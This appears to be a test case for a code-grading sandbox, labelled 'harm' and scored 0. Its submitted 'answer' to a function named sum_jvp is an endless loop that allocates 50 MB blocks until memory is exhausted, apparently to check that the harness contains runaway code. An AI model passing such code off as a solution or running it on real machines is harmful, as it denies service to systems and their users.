# /// case
# title = "Memory without end in one process"
# kind = "harm"
# score = 0
# ///

# %% answer sum_jvp
def sum_jvp(x1, dx1, x2, dx2):
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))
